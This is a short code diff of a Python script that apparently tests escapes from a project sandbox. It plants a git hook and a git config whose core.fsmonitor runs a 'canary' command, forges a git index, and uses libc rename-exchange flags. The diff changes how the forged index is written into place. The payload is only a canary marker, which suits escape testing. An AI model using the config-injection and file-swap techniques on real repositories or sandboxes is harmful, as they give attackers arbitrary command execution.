@@ -8,14 +8,14 @@ import struct
 import subprocess
 import threading  # noqa: F401
 import time  # noqa: F401
-from contextlib import suppress  # noqa: F401
+from contextlib import suppress
 from pathlib import Path
 
 TRY, HOST = os.environ["TRY"], os.environ["HOST_PROJECT"]
 HOOK = f"#!/bin/sh\ncanary {TRY}\n".encode()
 EVIL = f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = canary {TRY}\n".encode()
 LIBC = ctypes.CDLL(None, use_errno=True)
-AT_FDCWD, EXCHANGE, WHITEOUT = -100, 2, 4
+AT_FDCWD, EXCHANGE, WHITEOUT, FOLLOW = -100, 2, 4, 0x400
 os.chdir(os.environ["PROJECT"])
 
 
@@ -43,4 +43,7 @@ def write_index(path: str, blobs: dict[str, str]) -> None:
         entry = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + bytes.fromhex(blob)
         entry += struct.pack(">H", len(name)) + name.encode()
         data += entry + bytes(8 - len(entry) % 8)
-    Path(path).write_bytes(data + hashlib.sha1(data).digest())
+    for name in (f"{path}.lock", path):  # as git does it; and in place
+        with suppress(OSError):
+            Path(name).write_bytes(data + hashlib.sha1(data).digest())
+            Path(name).rename(path)
